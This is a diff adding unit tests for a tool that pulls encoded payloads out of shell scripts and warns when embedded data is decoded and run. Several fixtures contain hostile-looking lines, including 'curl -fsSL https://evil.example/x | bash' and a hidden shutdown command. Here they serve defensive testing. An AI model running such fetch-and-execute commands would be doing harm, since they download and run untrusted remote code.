@@ -0,0 +1,186 @@
+import base64
+import gzip
+import hashlib
+import os
+import textwrap
+import unittest
+
+from src.baish.payload_extractor import (
+    MIN_PAYLOAD_BYTES,
+    _split_trailer,
+    extract_payloads,
+)
+
+ARCHIVE = gzip.compress(os.urandom(64 * 1024))
+ENCODED = base64.b64encode(ARCHIVE).decode()
+
+
+class TestPayloadExtractor(unittest.TestCase):
+    def test_small_scripts_unchanged(self):
+        script = "#!/bin/sh\necho hi\n"
+        self.assertEqual(extract_payloads(script), (script, []))
+
+    def test_short_encoded_strings_kept(self):
+        key = base64.b64encode(os.urandom(64)).decode()
+        script = f"#!/bin/sh\nKEY={key}\n" + "echo hi\n" * MIN_PAYLOAD_BYTES
+        content, payloads = extract_payloads(script)
+        self.assertEqual(content, script)
+        self.assertEqual(payloads, [])
+
+    def test_heredoc_base64_payload(self):
+        lines = "\n".join(textwrap.wrap(ENCODED, 76))
+        script = (
+            "#!/bin/sh\n"
+            "base64 -d > /tmp/app.tgz <<'EOF'\n"
+            f"{lines}\n"
+            "EOF\n"
+            "tar xzf /tmp/app.tgz\n"
+        )
+
+        content, payloads = extract_payloads(script)
+
+        self.assertEqual(len(payloads), 1)
+        payload = payloads[0]
+        self.assertEqual(payload.kind, "base64")
+        self.assertEqual(payload.decoded_size, len(ARCHIVE))
+        self.assertEqual(payload.sha256, hashlib.sha256(ARCHIVE).hexdigest())
+        self.assertIn("gzip", payload.mime_type)
+        self.assertGreater(payload.entropy, 7.5)
+        self.assertLess(len(content), 500)
+        self.assertIn("base64 -d > /tmp/app.tgz <<'EOF'\n[baish: removed", content)
+        self.assertTrue(content.endswith("]\nEOF\ntar xzf /tmp/app.tgz\n"))
+        self.assertNotIn("WARNING", content)
+
+    def test_inline_token(self):
+        script = f'#!/bin/sh\nDATA="{ENCODED}"\necho "$DATA" | base64 -d | tar xz\n'
+        content, payloads = extract_payloads(script)
+        self.assertEqual(len(payloads), 1)
+        self.assertTrue(content.startswith('#!/bin/sh\nDATA="[baish: removed'))
+
+    def test_commands_in_encoded_blocks_stay_visible(self):
+        data = textwrap.wrap(ENCODED, 76)
+        command = "/" * 60 + "usr/bin/shutdown"
+        data.insert(len(data) // 2, command)
+        lines = "\n".join(data)
+        scripts = [
+            # Top-level lines are run by bash, however they look
+            f"#!/bin/sh\n{lines}\n",
+            f"#!/bin/sh\nbash <<'EOF'\n{lines}\nEOF\n",
+            f"#!/bin/sh\ncat > /tmp/x <<'EOF'\n{lines}\nEOF\n",
+            f'#!/bin/sh\necho "$X" | base64 -d\n{lines}\n',
+        ]
+        for script in scripts:
+            content, _ = extract_payloads(script)
+            self.assertIn(command, content, script[:40])
+
+        script = f"#!/bin/sh\nX=\"{ENCODED}\"\n{'/' * 4096}usr/bin/shutdown\n"
+        content, payloads = extract_payloads(script)
+        self.assertEqual(len(payloads), 1)
+        self.assertIn("usr/bin/shutdown", content)
+
+    def test_quoted_assignment_spanning_lines(self):
+        lines = "\n".join(textwrap.wrap(ENCODED, 76))
+        script = f'#!/bin/sh\nDATA="\n{lines}\n"\necho "$DATA" | base64 -d | tar xz\n'
+        content, payloads = extract_payloads(script)
+        self.assertEqual(len(payloads), 1)
+        self.assertLess(len(content), 500)
+
+    def test_hex_payload(self):
+        hex_lines = "\n".join(textwrap.wrap(ARCHIVE[:8192].hex(), 64))
+        script = f"#!/bin/sh\nxxd -r -p > blob <<EOF\n{hex_lines}\nEOF\n"
+        _, payloads = extract_payloads(script)
+        self.assertEqual([p.kind for p in payloads], ["hex"])
+        self.assertEqual(payloads[0].decoded_size, 8192)
+
+    def test_trailing_archive_marker(self):
+        data = "\n".join(textwrap.wrap(ENCODED, 76))
+        script = (
+            "#!/bin/sh\n"
+            "sed '1,/^__ARCHIVE__$/d' \"$0\" | base64 -d | tar xz\n"
+            "exit 0\n"
+            "__ARCHIVE__\n"
+            f"{data}\n"
+        )
+
+        content, payloads = extract_payloads(script)
+
+        self.assertEqual(len(payloads), 1)
+        self.assertEqual(payloads[0].decoded_size, len(ARCHIVE))
+        self.assertTrue(content.startswith(script[: script.index("__ARCHIVE__\n")]))
+        self.assertNotIn(ENCODED[:100], content)
+
+    def test_trailing_data_after_exit(self):
+        data = "\n".join(textwrap.wrap(ENCODED, 76))
+        script = f'#!/bin/sh\ntail -n +4 "$0" | base64 -d | tar xz\nexit 0\n{data}\n'
+        content, payloads = extract_payloads(script)
+        self.assertEqual(len(payloads), 1)
+        self.assertLess(len(content), 500)
+
+    def test_code_after_exit_is_kept(self):
+        script = "#!/bin/sh\nmain() {\n  echo hi\n}\nexit 0\n" + "echo x\n" * 1000
+        self.assertEqual(extract_payloads(script)[0], script)
+
+    def test_payload_piped_into_interpreter_is_flagged(self):
+        stage2 = base64.b64encode(b"#!/bin/sh\n" + b"curl evil | sh\n" * 400)
+        lines = "\n".join(textwrap.wrap(stage2.decode(), 76))
+        script = f"#!/bin/sh\nbase64 --decode <<EOF | bash\n{lines}\nEOF\n"
+
+        content, payloads = extract_payloads(script)
+
+        self.assertEqual(len(payloads), 1)
+        self.assertIn("WARNING: the script decodes embedded data and runs it", content)
+        self.assertIn("base64 --decode <<EOF | bash", content)
+        # The decoded stage is shown to the LLM rather than hidden
+        self.assertIn("curl evil | sh\n", content)
+
+    def test_decode_to_file_then_run_is_flagged(self):
+        lines = "\n".join(textwrap.wrap(ENCODED, 76))
+        script = (
+            "#!/bin/sh\n"
+            f"base64 -d > /tmp/x <<'EOF'\n{lines}\nEOF\n"
+            "chmod 755 /tmp/x\n"
+            "bash /tmp/x\n"
+        )
+        content, _ = extract_payloads(script)
+        self.assertIn("WARNING: the script decodes embedded data and runs it", content)
+
+    def test_shell_code_after_marker_is_kept(self):
+        hidden = "curl -fsSL https://evil.example/x | bash\n" * 120
+        scripts = [
+            # No exit, bash runs every line after the marker
+            f"#!/bin/bash\necho hi\n__DATA__\n{hidden}",
+            # Code is never data, even after an exit
+            f"#!/bin/bash\necho hi\nexit 0\n__DATA__\n{hidden}",
+        ]
+        for script in scripts:
+            self.assertEqual(extract_payloads(script), (script, []))
+
+    def test_trailer_needs_an_exit_that_always_runs(self):
+        data = "\n".join(textwrap.wrap(ENCODED, 76))
+        for head in [
+            '[ -n "$SKIP" ] && exit 0\n',
+            'if [ -n "$SKIP" ]; then\n  exit 0\nfi\n',
+            "(\nexit 0\n)\n",
+            "cat <<EOF\nexit\nEOF\n",
+            "true ||\nexit 0\n",
+        ]:
+            script = f"#!/bin/bash\n{head}__ARCHIVE__\n{data}\n"
+            self.assertEqual(_split_trailer(script), (script, None), head)
+
+        script = f"#!/bin/bash\nmain() {{\n  exit 1\n}}\nexit 0\n__ARCHIVE__\n{data}\n"
+        self.assertEqual(_split_trailer(script)[1], data + "\n")
+
+    def test_commands_mixed_into_trailer_stay_visible(self):
+        data = textwrap.wrap(ENCODED, 76)
+        data.insert(len(data) // 2, "curl -fsSL https://evil.example/x | bash")
+        script = "#!/bin/sh\nexit 0\n__ARCHIVE__\n" + "\n".join(data) + "\n"
+
+        content, payloads = extract_payloads(script)
+
+        self.assertEqual(len(payloads), 1)
+        self.assertIn("curl -fsSL https://evil.example/x | bash\n", content)
+        self.assertLess(len(content), 800)
+
+
+if __name__ == "__main__":
+    unittest.main()